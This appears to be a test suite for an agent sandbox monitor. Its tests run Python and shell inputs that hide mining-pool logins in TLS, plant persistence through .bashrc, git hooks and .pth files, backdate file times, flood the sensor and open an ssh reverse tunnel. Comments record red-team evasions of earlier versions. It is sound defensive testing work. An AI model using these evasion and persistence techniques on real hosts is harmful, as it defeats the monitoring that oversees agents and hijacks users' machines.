  // (no `Connection: Upgrade`: the registry, like any server, then answers the request as a plain one and reads the next)
  const requests = async (): Promise<number> => (await fx.far.counts())['198.51.100.10:80']?.requests ?? 0;
  const before = await requests();
  const { r, alerts } = await oneCall(`import socket, time
${HTTP_ATTEMPT_PY}upgrade = b"GET /ws HTTP/1.1\\r\\nHost: registry.test\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n"
pool = b"GET /job HTTP/1.1\\r\\nHost: pool.minexmr.test\\r\\nConnection: close\\r\\n\\r\\n"
print(attempt([upgrade, pool]), attempt([b"GET / HTTP/1.1\\r\\nX-Pad: " + b"A" * 40000 + b"\\r\\n", b"Host: pool.minexmr.test\\r\\nConnection: close\\r\\n\\r\\n"]))`, { tool: 'python' });
  assert.equal(r.stdout.trim(), '(1, 0) (0, 1)', `the upgrade request is answered (the server ignored it), the pool request is not; the long head gets a 403: ${r.stdout}${r.stderr}`);
  assert.equal(await requests() - before, 1, 'the registry served the upgrade request only');
  const net = alerts.filter((x) => x.payload.layer === 'network').map((x) => `${String(x.payload.message)} ${String(x.payload.reason)}`);
  assert.ok(net.some((m) => /pool\.minexmr\.test/.test(m)), JSON.stringify(net));
  assert.ok(net.some((m) => /longer than 32768 bytes/.test(m)), JSON.stringify(net));
});

test('TLS cannot carry what the sniff would cut: a ClientHello paused past the hold names no host and is refused, and a pool login inside TLS records is cut as mining', async () => {
  // (a review, session 34: the paused hello passed as TLS to the allowed name with a pool SNI, and a login in an application_data record reached the pool)
  const stalled = await oneCall(`import socket, ssl, time
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
out = ssl.MemoryBIO()
tls = ctx.wrap_bio(ssl.MemoryBIO(), out, server_hostname="pool.minexmr.test")
try:
    tls.do_handshake()
except ssl.SSLWantReadError:
    pass
hello = out.read()
s = socket.create_connection(("registry.test", 443), timeout=10)
s.sendall(hello[:20])
time.sleep(5.8)
try:
    s.sendall(hello[20:])
    print("got", s.recv(100))
except Exception as e:
    print("cut", type(e).__name__)`, { tool: 'python' });
  assert.match(stalled.r.stdout, /^cut|^got b''/m, stalled.r.stdout + stalled.r.stderr);
  const refused = stalled.alerts.filter((a) => a.payload.layer === 'network').map((a) => `${String(a.payload.message)} ${String(a.payload.reason)}`);
  assert.ok(refused.some((m) => /TLS ClientHello was not finished within 5\.\d s/.test(m)), JSON.stringify(refused));
  const before = await fx.far.accepted('203.0.113.20', 443);
  const answered = (await fx.far.counts())['203.0.113.20:443']?.requests ?? 0;
  const inRecords = await oneCall(`import socket, ssl, json, time
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
out = ssl.MemoryBIO()
tls = ctx.wrap_bio(ssl.MemoryBIO(), out)
try:
    tls.do_handshake()
except ssl.SSLWantReadError:
    pass
hello = out.read()
login = (json.dumps({"id": 1, "method": "login", "params": {"login": "wallet", "pass": "x", "agent": "XMRig/6.21.0"}}) + "\\n").encode()
record = bytes([23, 3, 3, len(login) >> 8, len(login) & 255]) + login
s = socket.create_connection(("203.0.113.20", 443), timeout=3)
try:
    s.sendall(hello)
    time.sleep(0.3)
    s.sendall(record)
    time.sleep(0.5)
    s.sendall(record)
    print("got", s.recv(100))
except Exception as e:
    print("cut", type(e).__name__)`, { tool: 'python' });
  assert.match(inRecords.r.stdout, /^cut|^got b''/m, inRecords.r.stdout + inRecords.r.stderr);
  const m = inRecords.alerts.filter((a) => a.payload.category === 'mining' && a.payload.layer === 'network');
  assert.equal(m.length, 1, JSON.stringify(inRecords.alerts.map((a) => [a.payload.category, a.payload.message])));
  assert.match(String(m[0]!.payload.message), /inside TLS records/);
  // (the hello reached the pool's port before the login was seen; what matters is that no login did)
  assert.ok(await fx.far.accepted('203.0.113.20', 443) - before <= 1);
  assert.equal((await fx.far.counts())['203.0.113.20:443']?.requests ?? 0, answered, 'the pool answered nothing');
});

test('persistence planted by code (Python start-up hook, git hook, ~/.bashrc) is found when the call ends and attributed to it', async () => {
  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'persist' });
  try {
    // Written by a Python script (the command screen sees only `python3 plant.py`).
    const plant = ['import os, site', 'd = site.getusersitepackages()', 'os.makedirs(d, exist_ok=True)',
      'open(os.path.join(d, "usercustomize.py"), "w").write("open(\'/workspace/hooked\', \'w\')\\n")',
      'open("repo/.git/hooks/pre-commit", "w").write("#!/bin/sh\\n")', 'open(os.path.expanduser("~/.bashrc"), "a").write("\\n")',
      'open("repo/.git/config", "a").write("[core]\\n\\tfsmonitor = ./fsm.sh\\n")'].join('\n');
    await s.exec({ command: `git init -q repo && cat > plant.py <<'EOF'\n${plant}\nEOF`, step: 1, toolCallId: 'write-plant' });
    const r = await s.exec({ command: 'python3 plant.py && echo planted', step: 2, toolCallId: 'plant' });
    assert.equal(r.stdout.trim(), 'planted', r.stderr);
    // one alert for the call (the files listed and counted), one file event each; the screen's own
    // persistence findings fold under it
    const found = r.alerts.filter((a) => a.payload.category === 'persistence');
    assert.deepEqual(found.map((a) => [a.payload.rule, a.tool_call, a.payload.count]), [['persistence.file_written', 'plant', 4]]);
    for (const p of [/\/workspace\/repo\/\.git\/config/, /\/workspace\/\.bashrc/, /\/workspace\/\.local\/lib\/python3[.\d]*\/site-packages\/usercustomize\.py/, /\/workspace\/repo\/\.git\/hooks\/pre-commit/]) assert.match(String(found[0]!.payload.message), p);
    assert.ok((found[0]!.payload.attack as string[]).includes('T1546.018'));
    assert.equal(s.events.filter((e) => e.kind === 'file' && e.tool_call === 'plant').length, 4);
    // The hook works (that is the threat), and a later call that changes nothing there raises nothing.
    const later = await s.exec({ command: 'python3 -c "print(42)" && test -e /workspace/hooked && echo hook-ran', step: 3, toolCallId: 'later' });
    assert.equal(later.stdout.trim(), '42\nhook-ran');
    assert.deepEqual(later.alerts.filter((a) => a.payload.rule === 'persistence.file_written'), []);
    // a repository nested deeper than one level (a Go-style src/host/org/repo) is looked at too
    await s.exec({ command: 'mkdir -p src/git.test/org && git init -q src/git.test/org/tool', step: 4, toolCallId: 'clone' });
    const nested = await s.exec({ command: "python3 -c \"open('src/git.test/org/tool/.git/hooks/post-checkout', 'w').write('#!/bin/sh')\"", step: 5, toolCallId: 'nested' });
    const hook = nested.alerts.filter((a) => a.payload.rule === 'persistence.file_written');
    assert.deepEqual(hook.map((a) => [a.tool_call, a.payload.count]), [['nested', 1]], JSON.stringify(nested.alerts.map((a) => a.payload.message)));
    assert.match(String(hook[0]!.payload.message), /\/workspace\/src\/git\.test\/org\/tool\/\.git\/hooks\/post-checkout/);
    // a .pth whose import line no packaging tool writes runs at every python3 start (a red-team review, session 40: no alert)
    const pth = await s.exec({ command: String.raw`cat > pth.py <<'EOF'
import os, site
open(os.path.join(site.getusersitepackages(), "zz_compat.pth"), "w").write("import os; os.system('touch /workspace/pth-ran')\n")
EOF
python3 pth.py && python3 -c pass && test -e /workspace/pth-ran && echo pth-ran`, step: 6, toolCallId: 'pth' });
    assert.equal(pth.stdout.trim(), 'pth-ran', pth.stderr);
    const pthHit = pth.alerts.filter((a) => a.payload.rule === 'persistence.file_written');
    assert.deepEqual(pthHit.map((a) => [a.tool_call, a.payload.count]), [['pth', 1]], JSON.stringify(pth.alerts.map((a) => a.payload.message)));
    assert.match(String(pthHit[0]!.payload.message), /site-packages\/zz_compat\.pth.*os\.system/);
  } finally { await s.close(); }
});

test('persistence a background process plants after the last call is found when the session closes, and blamed on the call that left it running', async () => {
  // (a review, session 24: the watch only ran when a call ended, so a write after the last one was never seen)
  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'persist-late' });
  let closed = false;
  try {
    await s.exec({ command: 'true', step: 1, toolCallId: 'first' });
    const r = await s.exec({ command: "(sleep 1; echo 'echo PAYLOAD' >> ~/.bashrc; mkdir -p ~/.git/hooks) >/dev/null 2>&1 &", step: 2, toolCallId: 'leaves-writer' });
    // (the command screen flags the text; the file itself does not exist yet when the call ends)
    assert.deepEqual(r.alerts.filter((a) => a.payload.rule === 'persistence.file_written'), [], 'no file yet when the call ends');
    await s.exec({ command: 'true', step: 3, toolCallId: 'innocent' });
    await new Promise((res) => setTimeout(res, 1800));
    await s.close();
    closed = true;
    const found = s.alertEvents.filter((a) => a.payload.rule === 'persistence.file_written');
    assert.equal(found.length, 1, JSON.stringify(s.alertEvents.map((a) => [a.payload.rule, a.tool_call])));
    assert.equal(found[0]!.tool_call, 'leaves-writer', 'the call whose process was still running, not the last call');
    // (the writer's pid is known: the session's workspace is a disk of its own, watched by fanotify)
    assert.match(String(found[0]!.payload.message), /\/workspace\/\.bashrc created \(found when the session closed; written by pid \d+ of this call, after it ended: by a process it left running\)/);
  } finally { if (!closed) await s.close(); }
});

test('persistence a background process plants between two calls is blamed on the call that left it running (the file\'s change time, for a host workspace no writer is known in), not on the next call; one a call writes itself while another\'s process runs stays the writer\'s', async () => {
  // (a host directory as the workspace: not a filesystem of its own, so not watched by fanotify; the file times decide)
  const host = mkdtempSync(join(tmpdir(), 'corral-persist-ws-'));
  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'persist-between', workspace: join(host, 'ws') });
  try {
    const r1 = await s.exec({ command: "(sleep 1; echo 'echo PAYLOAD' >> ~/.bashrc; touch -d 2020-01-01 ~/.bashrc; exec sleep 60) >/dev/null 2>&1 &", step: 1, toolCallId: 'leaves-writer' });
    assert.deepEqual(r1.alerts.filter((a) => a.payload.rule === 'persistence.file_written'), [], 'no file yet when the call ends');
    await new Promise((res) => setTimeout(res, 1800));
    // (the writer set the modification time back: the change time, which it cannot set, still says when)
    const r2 = await s.exec({ command: 'true', step: 2, toolCallId: 'innocent' });
    assert.deepEqual(r2.alerts.filter((a) => a.payload.rule === 'persistence.file_written'), [], 'nothing blamed on the call that ran after the write');
    const found = s.alertEvents.filter((a) => a.payload.rule === 'persistence.file_written');
    assert.deepEqual(found.map((a) => [a.tool_call, a.step]), [['leaves-writer', 1]]);
    assert.match(String(found[0]!.payload.message), /\/workspace\/\.bashrc created \(found when step 2 ended; changed at \S+Z, after this call ended, while no call ran: by a process it left running\)/);
    const file = s.events.filter((e) => e.kind === 'file');
    assert.deepEqual(file.map((e) => [e.tool_call, e.payload.path]), [['leaves-writer', '/workspace/.bashrc']]);
    const changed = Number(BigInt(String(file[0]!.payload.changed_ts)) / 1_000_000n);
    assert.ok(changed > Date.now() - 10_000, `changed_ts is the change time, not the set-back mtime (${changed})`);
    // A call that writes one itself, while step 1's process still runs: its own.
    await s.exec({ command: 'echo x >> ~/.profile', step: 3, toolCallId: 'own-write' });
    const own = s.alertEvents.filter((a) => a.payload.rule === 'persistence.file_written' && a.tool_call === 'own-write');
    assert.equal(own.length, 1, JSON.stringify(s.alertEvents.map((a) => [a.payload.rule, a.tool_call])));
    assert.match(String(own[0]!.payload.message), /\/workspace\/\.profile created \(found when this call ended; processes step 1 left running were also running\)/);
  } finally { await s.close(); rmSync(host, { recursive: true, force: true }); }
});

test('persistence a background process plants while a later call runs is blamed on the call that left it running: the writer\'s pid and cgroup (fanotify), not the time', async () => {
  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'persist-during' });
  try {
    await s.exec({ command: "(sleep 1; echo 'echo PAYLOAD' >> ~/.bashrc; mkdir -p repo/.git/hooks; printf '#!/bin/sh\\n' > repo/.git/hooks/pre-commit; exec sleep 60) >/dev/null 2>&1 &", step: 1, toolCallId: 'leaves-writer' });
    // The write lands while step 2 runs: by time alone, step 2's.
    const r2 = await s.exec({ command: 'sleep 2', step: 2, toolCallId: 'innocent' });
    assert.deepEqual(r2.alerts.filter((a) => a.payload.rule === 'persistence.file_written'), [], JSON.stringify(r2.alerts.map((a) => a.payload.message)));
    const found = s.alertEvents.filter((a) => a.payload.rule === 'persistence.file_written');
    assert.deepEqual(found.map((a) => [a.tool_call, a.step, a.payload.count]), [['leaves-writer', 1, 2]]);
    assert.match(String(found[0]!.payload.message), /\(found when step 2 ended; written by pid \d+ of this call, after it ended: by a process it left running\)/);
    // A call that writes one itself, while step 1's process still runs: its own, by its pid.
    await s.exec({ command: 'echo x >> ~/.profile', step: 3, toolCallId: 'own-write' });
    const own = s.alertEvents.filter((a) => a.payload.rule === 'persistence.file_written' && a.tool_call === 'own-write');
    assert.equal(own.length, 1, JSON.stringify(s.alertEvents.map((a) => [a.payload.rule, a.tool_call])));
    // (its writer, the call's own shell, exits at once: the look waits for the watcher's queue and the sensor's record of its pid)
    assert.match(String(own[0]!.payload.message), /\/workspace\/\.profile created \(found when this call ended; written by its pid \d+\)/);
  } finally { await s.close(); }
});

test('a background process that keeps a start-up file open for writing past a later call\'s end is blamed, not the later call (no close was seen, and the change time falls in the later call)', async () => {
  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'persist-held' });
  try {
    // (the file exists before the holder opens it — step 1 writes it itself, its own alert — so no creation names the holder either)
    await s.exec({ command: "echo '# rc' > ~/.bashrc; (while [ ! -e go ]; do sleep 0.05; done; exec 3>>~/.bashrc; echo 'echo PAYLOAD' >&3; exec sleep 60) >/dev/null 2>&1 &", step: 1, toolCallId: 'leaves-writer' });
    const r2 = await s.exec({ command: 'touch go; until grep -q PAYLOAD ~/.bashrc 2>/dev/null; do sleep 0.05; done', step: 2, toolCallId: 'innocent' });
    assert.deepEqual(r2.alerts.filter((a) => a.payload.rule === 'persistence.file_written').map((a) => a.payload.message), []);
    const found = s.alertEvents.filter((a) => a.payload.rule === 'persistence.file_written');
    assert.deepEqual(found.map((a) => [a.tool_call, a.step]), [['leaves-writer', 1], ['leaves-writer', 1]]);
    assert.match(String(found[0]!.payload.message), /\/workspace\/\.bashrc created \(found when this call ended; written by its pid \d+\)/);
    assert.match(String(found[1]!.payload.message), /\/workspace\/\.bashrc modified \(found when step 2 ended; held open for writing by pid \d+ of this call, after it ended: by a process it left running\)/);
  } finally { await s.close(); }
});

test('a background process that renames a staged start-up file into place, and moves a directory of git hooks in, while a later call runs is blamed, not the later call (no write to either name)', async () => {
  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'persist-moved' });
  try {
    await s.exec({ command: "git init -q repo && rm -rf repo/.git/hooks && mkdir hooks-staged && printf '#!/bin/sh\\n' > hooks-staged/pre-commit && printf 'echo PAYLOAD\\n' > staged && (while [ ! -e go ]; do sleep 0.05; done; mv staged .bashrc; mv hooks-staged repo/.git/hooks; touch moved; exec sleep 60) >/dev/null 2>&1 &", step: 1, toolCallId: 'leaves-mover' });
    const r2 = await s.exec({ command: 'touch go; until [ -e moved ]; do sleep 0.05; done', step: 2, toolCallId: 'innocent' });
    assert.deepEqual(r2.alerts.filter((a) => a.payload.rule === 'persistence.file_written').map((a) => a.payload.message), []);
    const found = s.alertEvents.filter((a) => a.payload.rule === 'persistence.file_written');
    assert.deepEqual(found.map((a) => [a.tool_call, a.step, a.payload.count]), [['leaves-mover', 1, 2]]);
    assert.match(String(found[0]!.payload.message), /\(found when step 2 ended; written by pid \d+ of this call, after it ended: by a process it left running\)/);
    assert.match(String(found[0]!.payload.message), /\/workspace\/\.bashrc/);
    assert.match(String(found[0]!.payload.message), /\/workspace\/repo\/\.git\/hooks\/pre-commit/);
  } finally { await s.close(); }
});

test("the sandbox kernel's own ICMP errors (a DNS answer to a closed port) are recorded, never alerted", async () => {
  const { s, alerts } = await oneCall(`import socket, struct, time
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in "registry.test".split(".")) + b"\\x00" + struct.pack(">HH", 1, 1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(q, (ns, 53))
u.close()
time.sleep(1.5)`, { tool: 'python' });
  const drops = s.events.filter((e) => e.kind === 'drop');
  assert.ok(drops.some((e) => e.payload.icmp_type === 3), JSON.stringify(drops.map((e) => e.payload)));
  assert.deepEqual(alerts.map((a) => a.payload.message), []);
});

test('UDP, ICMP and IPv6 attempts are dropped and recorded', async () => {
  const { alerts } = await oneCall(`import socket, time
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"tunnel", ("203.0.113.10", 9999))
icmp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
icmp.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("203.0.113.10", 0))
try:
    socket.create_connection(("2001:db8::1", 80), timeout=1)
except OSError as e:
    print("v6", e.errno)
# (multicast to a group nobody joined: the kernel drops it before nft's input hook, so it is logged at prerouting)
u.sendto(b"mdns", ("224.0.0.251", 5353))
time.sleep(0.3)`, { tool: 'python' });
  const msgs = alerts.map((a) => `${a.payload.rule} ${a.payload.message}`).join('\n');
  assert.match(msgs, /UDP packet to 203\.0\.113\.10:9999 dropped/);
  assert.match(msgs, /224\.0\.0\.251:5353/);
  assert.match(msgs, /ICMP packet to 203\.0\.113\.10/);
  assert.match(msgs, /IPv6/);
  assert.ok(alerts.every((a) => a.tool_call === 'call-1'));
});

test('datagrams sent later by a background process (UDP via sendto/sendmsg/sendmmsg, ICMP ping, DNS to an outside resolver) are attributed to the call that started it, with its pid', async () => {
  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'udp-bg' });
  try {
    const bg = `import socket, time
time.sleep(1.5)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"beacon", ("203.0.113.10", 9999))
u.sendmsg([b"beacon2"], [], 0, ("203.0.113.10", 9998))
# sendmmsg() (batched datagrams; Python has no wrapper): two messages to one destination
import ctypes, struct
class Iov(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
class Hdr(ctypes.Structure): _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(Iov)), ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int)]
class MHdr(ctypes.Structure): _fields_ = [("hdr", Hdr), ("len", ctypes.c_uint)]
sa = ctypes.create_string_buffer(struct.pack("=HH4s8x", socket.AF_INET, socket.htons(9996), socket.inet_aton("203.0.113.10")), 16)
data = ctypes.create_string_buffer(b"beacon3")
iov = Iov(ctypes.cast(data, ctypes.c_void_p), 7)
mm = (MHdr * 2)()
for m in mm:
    m.hdr.name = ctypes.cast(sa, ctypes.c_void_p); m.hdr.namelen = 16; m.hdr.iov = ctypes.pointer(iov); m.hdr.iovlen = 1
print("sendmmsg", ctypes.CDLL(None, use_errno=True).sendmmsg(u.fileno(), mm, 2, 0))
icmp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
icmp.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("203.0.113.10", 0))
q = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"".join(bytes([len(p)]) + p.encode() for p in "xmr.pool.test".split(".")) + b"\\x00\\x00\\x01\\x00\\x01"
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
d.settimeout(2)
time.sleep(0.05)  # (past the sensor's per-call send budget of 2 per ms, which the sends above used up)
d.sendto(q, ("203.0.113.53", 53))
try:
    d.recv(512)
except OSError:
    pass
time.sleep(0.5)`;
    const r1 = await s.exec({ command: `cat > bg.py <<'EOF'\n${bg}\nEOF\n(nohup python3 bg.py >/dev/null 2>&1 &); echo planted`, step: 1, toolCallId: 'plant' });
    assert.equal(r1.stdout.trim(), 'planted');
    const r2 = await s.exec({ command: 'sleep 3; echo done', step: 2, toolCallId: 'later' });
    assert.equal(r2.stdout.trim(), 'done');
    await s.close();
    const drops = s.events.filter((e) => e.kind === 'drop' && e.payload['network.peer.address'] === '203.0.113.10');
    assert.ok(drops.length >= 3, `drops: ${JSON.stringify(drops.map((d) => [d.payload.proto, d.payload['network.peer.port']]))}`);
    for (const d of drops) {
      assert.equal(d.tool_call, 'plant', `${d.payload.proto} drop attributed to ${d.tool_call} (${d.payload.attribution})`);
      assert.equal(d.payload.attribution, 'syscall');
      assert.ok(d.pid! > 0);
    }
    const sends = s.events.filter((e) => e.kind === 'connect' && e.payload.via === 'sendto');
    for (const [port, how] of [[9999, 'sendto'], [9998, 'sendmsg'], [9996, 'sendmmsg']] as const) assert.ok(sends.some((e) => e.payload['network.peer.port'] === port), `${how} recorded`);
    assert.ok(drops.some((d) => d.payload['network.peer.port'] === 9996), 'the sendmmsg datagrams were dropped');
    assert.ok(s.alertEvents.filter((a) => a.payload.category !== undefined && /203\.0\.113\.10/.test(String(a.payload.message))).every((a) => a.tool_call === 'plant'));
    // The pool lookup sent to another resolver says so, and where.
    const pool = s.alertEvents.find((a) => a.payload.rule === 'dns.mining_pool');
    assert.ok(pool, s.alertEvents.map((a) => a.payload.rule).join(','));
    assert.equal(pool.tool_call, 'plant');
    assert.match(String(pool.payload.message), /sent to 203\.0\.113\.53:53, a resolver other than Corral's \(redirected\)/);
  } finally { await s.close(); }
});

test('a UDP flood cannot blind the sensor: every exec during it is captured, datagram records are throttled in the kernel, Corral stays healthy', async () => {
  const warningsBefore = fx.rt.warnings.length;
  const lostBefore = fx.rt.sensor!.lost;
  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'flood' });
  let sendRecords = 0;
  let connectRecords = 0;
  const count = (rec: SensorRecord): void => {
    if (rec.kind === 'connect' && rec.ip === '203.0.113.10') { if (rec.via === 'sendto') sendRecords++; else if (rec.port === 9997) connectRecords++; }
  };
  fx.rt.sensor!.on('record', count);
  try {
    const py = `import socket, subprocess, threading, time
def flood():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    t0 = time.time()
    for _ in range(60000):
        u.sendto(b"x", ("203.0.113.10", 9999))
    print("sent", 60000, int((time.time() - t0) * 1000))
def connects():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    t0 = time.time()
    for _ in range(150000):
        u.connect(("203.0.113.10", 9997))
    print("connects", 150000, int((time.time() - t0) * 1000))
t = threading.Thread(target=flood)
c = threading.Thread(target=connects)
t.start()
c.start()
for i in range(300):
    subprocess.run(["/bin/true", "flood-tag-%d" % i])
t.join()
c.join()`;
    const r = await s.exec({ command: py, tool: 'python', step: 1, toolCallId: 'flood', timeoutMs: 60_000 });
    assert.equal(r.exitCode, 0, r.stderr);
    const [, sent, sentMs] = (/sent (\d+) (\d+)/.exec(r.stdout) ?? []).map(Number);
    const [, connects, connectMs] = (/connects (\d+) (\d+)/.exec(r.stdout) ?? []).map(Number);
    assert.ok(sent === 60000 && connects === 150000, r.stdout);
    const ok = await s.exec({ command: 'echo healthy', step: 2, toolCallId: 'after' });
    assert.equal(ok.stdout.trim(), 'healthy');
    await s.close();
    assert.equal(fx.rt.sensor!.lost - lostBefore, 0, 'the kernel dropped no sensor records');
    const tags = new Set(s.events.filter((e) => e.kind === 'exec').map((e) => (e.payload.argv as string[])[1]).filter((a) => /^flood-tag-/.test(a ?? '')));
    assert.equal(tags.size, 300, `captured ${tags.size}/300 execs during the flood`);
    const lost = fx.rt.warnings.slice(warningsBefore).filter((w) => /lost/.test(w));
    assert.deepEqual(lost, [], 'the sensor lost no events');
    const drops = s.events.filter((e) => e.kind === 'drop' && e.payload['network.peer.address'] === '203.0.113.10');
    // the flood is on record (drop logging is rate-limited per sandbox by the nft ruleset: builders.test.ts)
    assert.ok(drops.length >= 1, `${drops.length} logged drops for ${sent} datagrams`);
    const sends = s.events.filter((e) => e.kind === 'connect' && e.payload.via === 'sendto');
    assert.ok(sends.length >= 1 && sends.length <= 10, `${sends.length} sendto events (one per process and destination per second)`);
    // the kernel side records at most 2 sends and 2 non-TCP connects per tool call (cgroup) per ms (+2 windows of slack)
    assert.ok(sent! > 2 * (sentMs! + 2), `flood too slow to exercise the throttle (${sent} in ${sentMs} ms)`);
    assert.ok(sendRecords >= 2 && sendRecords <= 2 * (sentMs! + 2), `${sendRecords} sendto records for ${sent} datagrams in ${sentMs} ms`);
    assert.ok(connects! > 2 * (connectMs! + 2), `connect loop too slow to exercise the throttle (${connects} in ${connectMs} ms)`);
    assert.ok(connectRecords >= 2 && connectRecords <= 2 * (connectMs! + 2), `${connectRecords} UDP connect records for ${connects} connect() calls in ${connectMs} ms`);
  } finally { fx.rt.sensor!.off('record', count); await s.close(); }
});

test('observe mode records "would block" and lets traffic through (lab only)', async () => {
  const before = await fx.far.accepted('10.0.0.5', 80);
  const { alerts } = await oneCall('curl -sS -m 3 -o /dev/null http://10.0.0.5/ && echo reached', { policy: 'mode: observe\n' });
  assert.equal(await fx.far.accepted('10.0.0.5', 80), before + 1);
  assert.equal(alerts[0]?.payload.action, 'observed', JSON.stringify(alerts.map((a) => [a.payload.rule, a.payload.message, a.payload.action])));
  assert.equal(alerts[0]?.payload.category, 'internal_probe');
  assert.match(alerts[0]!.payload.reason, /^Observe mode: these connections went through and were recorded; under enforce they are refused\./, 'the agent is not told it was refused');
  // a scan in observe mode says it was let through, and counts one host as one host
  const scan = await oneCall('for p in 80 5432; do curl -sS -m 2 -o /dev/null http://10.0.0.5:$p/ 2>/dev/null; done; echo scanned', { policy: 'mode: observe\n' });
  const fan = scan.alerts.filter((a) => a.payload.rule === 'gateway.internal_scan');
  assert.equal(fan.length, 1, JSON.stringify(scan.alerts.map((a) => [a.payload.rule, a.payload.message])));
  assert.equal(fan[0]!.payload.message.replace(/ \(10\.0\.0\.5:.*\)$/, ''), 'Internal network scan: 2 attempts (observe mode: would have been blocked) to 2 targets on 1 host');
  assert.equal(fan[0]!.payload.action, 'observed');
  assert.match(fan[0]!.payload.reason, /^Observe mode: /);
});

test('hostile bytes at the resolver and the proxy do not hurt the gateway', async () => {
  const { alerts } = await oneCall(`import socket, os, random
random.seed(7)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(200):
    u.sendto(os.urandom(random.randint(0, 600)), ("10.231.0.1", 53))
    u.sendto(bytes(random.randint(0, 255) for _ in range(12)) + b"\\xff" * 40, ("198.51.100.10", 53))
for i in range(30):
    try:
        c = socket.create_connection(("198.51.100.10", 80), timeout=2)
        c.sendall(os.urandom(random.randint(1, 20000)))
        c.close()
    except OSError:
        pass`, { tool: 'python' });
  assert.deepEqual(alerts.filter((a) => a.tool_call !== 'call-1').map((a) => [a.payload.rule, a.payload.message, a.tool_call]), []);
  const { r, alerts: after } = await oneCall('getent hosts registry.test && curl -sS -m 5 -o /dev/null -w "%{http_code}" http://registry.test/ok');
  assert.match(r.stdout, /198\.51\.100\.10\s+registry\.test[\s\S]*200/);
  assert.deepEqual(after, []);
});

test('with detection.on_finding: block, a denied command is stopped before it runs and the agent reads why', async () => {
  const before = await fx.far.accepted('203.0.113.10', 22);
  const s = await fx.rt.createSession({ policy: labPolicy('detection:\n  on_finding: block\n'), episode: 'screen' });
  try {
    const r = await s.exec({ command: 'ssh -o StrictHostKeyChecking=no -N -R 2222:localhost:22 tunnel@203.0.113.10', step: 1, toolCallId: 'blocked-call' });
    assert.equal(r.exitCode, 126);
    assert.match(r.stderr, /corral: blocked before running: .*\[rule [a-z_]+/);
    const a = r.alerts.find((x) => x.payload.category === 'tunnel');
    assert.ok(a, JSON.stringify(r.alerts.map((x) => x.payload.rule)));
    assert.equal(a.payload.action, 'blocked');
    assert.equal(a.payload.layer, 'command');
    const ok = await s.exec({ command: 'echo still fine', step: 2 });
    assert.equal(ok.stdout.trim(), 'still fine');
    // a warning runs, and its alert says why under this policy (it claimed `on_finding: record`: a user review, session 41)
    const warned = await s.exec({ command: 'mkfifo /tmp/p && echo made', step: 3, toolCallId: 'warned-call' });
    assert.equal(warned.stdout, 'made\n');
    await s.close();
    const w = s.alertEvents.find((x) => x.tool_call === 'warned-call' && x.payload.layer === 'command');
    assert.ok(w, JSON.stringify(s.alertEvents.map((x) => [x.tool_call, x.payload.rule])));
    assert.match(w.payload.message, /below the level this policy blocks at — detection\.on_finding: block denies only what the screen would deny\)$/);
  } finally { await s.close(); }
  assert.equal(await fx.far.accepted('203.0.113.10', 22), before, 'nothing was even attempted');
  const execs = fx.rt.store.query({ tool_call: 'blocked-call', kind: ['exec'] });
  assert.deepEqual(execs, [], 'no process ran for the blocked call');
});
